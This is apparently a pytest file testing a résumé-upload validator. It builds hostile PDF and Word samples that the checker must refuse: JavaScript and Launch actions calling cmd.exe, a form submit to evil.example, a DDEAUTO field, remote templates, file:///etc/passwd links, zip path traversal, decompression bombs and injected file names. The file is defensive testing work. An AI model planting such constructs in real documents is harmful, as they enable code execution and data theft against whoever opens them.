"""Which files are taken as a résumé, and which are refused and why."""

import re
import zipfile
from io import BytesIO
from pathlib import Path

import pikepdf
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name, String

from applicants.resume import limits
from applicants.resume.checking import WORDS, ResumeRefused, check_resume, inspect, plain_name
from applicants.resume.child import clean, verdict
from tests.factories.resumes import docx, new_pdf, paragraph, pdf, saved

BREAK = '<w:p><w:r><w:br w:type="page"/></w:r></w:p>'
RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def with_root(**entries):
    document = new_pdf()
    for key, value in entries.items():
        document.Root[f"/{key}"] = value
    return saved(document)


def with_link(target):
    document = new_pdf()
    action = Dictionary(S=Name.URI, URI=String(target))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
    document.pages[0].Annots = Array([link])
    return saved(document)


def with_annotation(subtype):
    document = new_pdf()
    document.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=[0, 0, 9, 9])])
    return saved(document)


def with_form():
    document = new_pdf()
    widget = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), Rect=[0, 0, 9, 9])
    document.pages[0].Annots = Array([document.make_indirect(widget)])
    document.Root.AcroForm = Dictionary(Fields=document.pages[0].Annots)
    return saved(document)


def attached():
    document = new_pdf()
    document.attachments["payload.exe"] = b"MZ" * 20
    return saved(document)


def pdf_bomb():
    document = new_pdf()
    document.pages[0].Contents = document.make_stream(b" " * (limits.UNPACKED + 4096))
    return saved(document, compress_streams=True)


def huge_picture():
    document = new_pdf()
    picture = document.make_stream(b"0", Type=Name.XObject, Subtype=Name.Image, Width=30000, Height=30000)
    document.pages[0].Resources.XObject = Dictionary(Im1=picture)
    return saved(document)


def plain_zip():
    file = BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("notes.txt", "Not a document")
    return file.getvalue()


def docx_with(name, content):
    return docx(parts={name: content})


def relation(kind, target):
    return RELS.format(
        f'<Relationship Id="r1" TargetMode="External" Type="{OFFICE}/{kind}" Target="{target}"/>'
    )


def field(code):
    return f"<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p>{paragraph('Engineer')}"


def encrypted_docx():
    data = bytearray(docx())
    data[6] |= 1
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


def lying_docx():
    """Says in its directory that the document is small."""
    data = bytearray(docx(paragraph("x" * 50_000_000)))
    at = data.index(b"word/document.xml", data.index(b"PK\x01\x02")) - 46
    data[at + 24 : at + 28] = (900_000).to_bytes(4, "little")
    return bytes(data)


GOOD = [
    ("plain.pdf", pdf("Engineer for nine years")),
    ("upper.PDF", pdf("Engineer for nine years")),
    ("linked.pdf", with_link("https://example.com/work")),
    ("mail.pdf", with_link("mailto:ada@example.com")),
    ("opens-at-page-one.pdf", with_root(OpenAction=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])))),
    ("plain.docx", docx()),
    ("about-dde.docx", docx(paragraph("Removed DDE links from 400 workbooks"))),
    ("linked.docx", docx_with("word/_rels/document.xml.rels", relation("hyperlink", "https://example.com"))),
]
SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
BAD_BY_NAME = [
    ("empty.pdf", b"", "empty"),
    ("empty.docx", b"", "empty"),
    ("resume.exe", b"MZ", "wrong_type"),
    ("resume.doc", b"\xd0\xcf\x11\xe0", "wrong_type"),
    ("resume", pdf(), "wrong_type"),
    ("resume.pdf.exe", pdf(), "wrong_type"),
]
BAD = [
    ("html.pdf", b"<html><script>1</script></html>", "not_pdf"),
    ("late-header.pdf", b"\n" + pdf(), "not_pdf"),
    ("really-word.pdf", docx(), "not_pdf"),
    ("really-pdf.docx", pdf(), "not_docx"),
    ("picture.docx", b"\x89PNG\r\n", "not_docx"),
    ("plain-zip.docx", plain_zip, "not_docx"),
    ("with-zip-behind.pdf", pdf() + docx(), "two_formats"),
    ("with-html-in-head.pdf", pdf()[:9] + b"%<script>alert(1)</script>\n" + pdf()[9:], "two_formats"),
    ("cut-off.pdf", pdf()[:-40], "two_formats"),
    ("with-more-behind.docx", docx() + b"GIF89a", "two_formats"),
    ("garbled.pdf", b"%PDF-1.7\ngarbage\n%%EOF", "damaged"),
    ("cut-off.docx", docx()[:-30], "damaged"),
    ("encrypted.pdf", saved(new_pdf(), encryption=pikepdf.Encryption(owner="o", user="u")), "encrypted"),
    ("owner-only.pdf", saved(new_pdf(), encryption=pikepdf.Encryption(owner="o", user="")), "encrypted"),
    ("encrypted.docx", encrypted_docx(), "encrypted"),
    ("script.pdf", with_root(OpenAction=SCRIPT), "active"),
    ("named-script.pdf", with_root(Names=Dictionary(JavaScript=Dictionary(Names=Array([])))), "active"),
    ("launch.pdf", with_root(OpenAction=Dictionary(S=Name.Launch, F=String("cmd.exe"))), "active"),
    ("automatic.pdf", with_root(AA=Dictionary(WC=SCRIPT)), "active"),
    ("xfa.pdf", with_root(AcroForm=Dictionary(XFA=String("x"), Fields=Array([]))), "active"),
    ("form.pdf", with_form(), "active"),
    ("rich.pdf", with_annotation("/RichMedia"), "active"),
    ("submits.pdf", with_root(OpenAction=Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))), "active"),
    ("dde.docx", docx(field(r"DDEAUTO c:\\windows\\cmd.exe")), "active"),
    ("include.docx", docx(field("INCLUDETEXT file.txt")), "active"),
    ("attachment.pdf", attached(), "attachments"),
    ("clip.pdf", with_annotation("/FileAttachment"), "attachments"),
    ("macro.docx", docx_with("word/vbaProject.bin", b"\xd0\xcf"), "macros"),
    ("object.docx", docx_with("word/embeddings/oleObject1.bin", b"x"), "macros"),
    ("control.docx", docx_with("word/activeX/activeX1.xml", "<x/>"), "macros"),
    ("remote-template.docx", docx_with("word/_rels/settings.xml.rels", relation("attachedTemplate", "https://e.example/t.dotm")), "external"),
    ("remote-picture.docx", docx_with("word/_rels/document.xml.rels", relation("image", "https://e.example/t.png")), "external"),
    ("script-link.pdf", with_link("javascript:alert(1)"), "link"),
    ("file-link.docx", docx_with("word/_rels/document.xml.rels", relation("hyperlink", "file:///etc/passwd")), "link"),
    ("bomb.pdf", pdf_bomb, "bomb"),
    ("picture.pdf", huge_picture(), "bomb"),
    ("bomb.docx", lambda: docx(paragraph("x" * 50_000_000)), "bomb"),
    ("side-bomb.docx", lambda: docx_with("word/media/x.txt", b"0" * 60_000_000), "bomb"),
    ("lying.docx", lying_docx, None),
    ("entities.docx", docx_with("word/x.xml", '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'), "damaged"),
    ("outside.docx", docx_with("../../etc/cron.d/x", "x"), "damaged"),
    ("absolute.docx", docx_with("/etc/passwd", "x"), "damaged"),
    ("twice.docx", docx_with("WORD/Document.xml", "<x/>"), "damaged"),
    ("many-parts.docx", docx(parts={f"p{number}": "" for number in range(600)}), "damaged"),
    ("long.pdf", pdf(*["Engineer"] * 21), "pages"),
    ("scan.pdf", pdf(""), "no_text"),
    ("blank.docx", docx(paragraph("")), "no_text"),
]  # fmt: skip


def ending(name):
    return name.rpartition(".")[2].lower()


@pytest.mark.parametrize(("name", "data"), GOOD, ids=[name for name, _ in GOOD])
def test_plain_files_are_taken(name, data):
    found = verdict(data, ending(name), 2)
    assert found["pages"] == 1
    assert found["text"]


@pytest.mark.parametrize(("name", "data", "code"), BAD, ids=[name for name, _, _ in BAD])
def test_hostile_files_are_refused(name, data, code):
    found = verdict(data() if callable(data) else data, ending(name), 2)
    assert set(found) == {"refused"}
    assert code is None or found["refused"] == code


@pytest.mark.parametrize(("name", "data", "code"), BAD_BY_NAME, ids=[name for name, _, _ in BAD_BY_NAME])
def test_names_and_sizes_that_are_refused_unread(name, data, code):
    with pytest.raises(ResumeRefused) as refusal:
        check_resume(SimpleUploadedFile(name, data))
    assert refusal.value.code == code


@pytest.mark.parametrize("name", ["plain.pdf", "upper.PDF", "plain.docx"])
def test_the_child_takes_plain_files(name):
    found = check_resume(SimpleUploadedFile(name, dict(GOOD)[name]))
    assert (found.pages, found.name) == (1, plain_name(name))
    assert found.text


@pytest.mark.parametrize(
    ("name", "status"),
    [
        ("encrypted.pdf", 422),
        ("script.pdf", 422),
        ("macro.docx", 422),
        ("bomb.docx", 422),
        ("really-word.pdf", 415),
    ],
)
def test_the_child_refuses_hostile_files_in_words(name, status):
    data, code = next((data, code) for other, data, code in BAD if other == name)
    with pytest.raises(ResumeRefused) as refusal:
        check_resume(SimpleUploadedFile(name, data() if callable(data) else data))
    assert (refusal.value.code, refusal.value.status) == (code, status)
    assert str(refusal.value).endswith(".")


def test_every_refusal_has_words():
    source = "".join(path.read_text() for path in Path(limits.__file__).parent.glob("*.py"))
    assert set(re.findall(r'Unacceptable\("(\w+)"\)', source)) <= set(WORDS)
    assert {code for _, _, code in BAD if code} <= set(WORDS)


def test_the_size_is_looked_at_before_the_content():
    class Unread:
        name, size = "resume.pdf", settings.RESUME_MAX_BYTES + 1

        def read(self):
            raise AssertionError("read although it is too large")

    with pytest.raises(ResumeRefused) as refusal:
        check_resume(Unread())
    assert (refusal.value.code, refusal.value.status) == ("too_large", 413)


def test_pages_after_the_cap_are_never_in_the_text():
    found = check_resume(
        SimpleUploadedFile("r.pdf", pdf("First page", "Second page", "SECRET third", "SECRET fourth"))
    )
    assert found.pages == 4
    assert found.text == "First page\n\nSecond page"


def test_word_pages_after_the_cap_are_never_in_the_text():
    body = f"{paragraph('First')}{BREAK}{paragraph('Second')}{BREAK}{paragraph('SECRET third')}"
    found = check_resume(SimpleUploadedFile("r.docx", docx(body)))
    assert found.pages == 3
    assert found.text == "First\n\nSecond"


def test_a_word_file_without_breaks_ends_where_full_pages_end():
    found = check_resume(SimpleUploadedFile("r.docx", docx(paragraph("word " * 4000))))
    assert found.pages == 4
    assert len(found.text) <= 2 * limits.PAGE_CHARACTERS + 2


def test_paragraphs_and_tabs_stay_apart():
    body = f"{paragraph('Engineer')}<w:p><w:r><w:t>2019</w:t><w:tab/><w:t>Built things</w:t></w:r></w:p>"
    assert verdict(docx(body), "docx", 2) == {"pages": 1, "text": "Engineer\n2019 Built things"}


def test_text_reads_as_it_stands():
    assert clean("A\x00b\u202ec\u200b  d \n\n\n\n e\ud800") == "Abc d\n\ne"


def test_a_child_without_time_is_a_refusal(monkeypatch):
    monkeypatch.setattr("applicants.resume.checking.SECONDS", 0)
    assert inspect(pdf(), "pdf", 2) == {"refused": "unchecked"}


def test_a_child_that_dies_is_a_refusal(monkeypatch):
    monkeypatch.setattr("applicants.resume.checking.START", "import os; os.abort()")
    assert inspect(pdf(), "pdf", 2) == {"refused": "unchecked"}


def test_a_child_that_babbles_is_a_refusal(monkeypatch):
    monkeypatch.setattr("applicants.resume.checking.START", "print('[1]')")
    assert inspect(pdf(), "pdf", 2) == {"refused": "unchecked"}


@pytest.mark.parametrize(
    "attempt",
    [
        "open({path!r}, 'wb', 0).write(b'x')",
        "bytearray(900 * 1024 * 1024)",
        "exec('while True: pass')",
    ],
)
def test_the_child_can_neither_write_nor_grow_nor_run_on(monkeypatch, tmp_path, attempt):
    bound = "import sys; sys.path.insert(0, sys.argv[1]); from applicants.resume import limits; limits.SECONDS = 1; "
    after = f"limits.give_up_rights(); {attempt.format(path=str(tmp_path / 'escaped'))}; print('{{}}')"
    monkeypatch.setattr("applicants.resume.checking.START", bound + after)
    assert inspect(pdf(), "pdf", 2) == {"refused": "unchecked"}


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("C:\\Users\\ada\\My resume.PDF", "My resume.pdf"),
        ("../../etc/passwd.docx", "passwd.docx"),
        ('a"; filename="b.exe\r\n.pdf', "a filename=b.exe.pdf"),
        ("\u202efdp.exe.pdf", "fdp.exe.pdf"),
        ("x" * 300 + ".pdf", "x" * 80 + ".pdf"),
        (".pdf", "resume.pdf"),
    ],
)
def test_names_are_made_plain(given, kept):
    assert plain_name(given) == kept
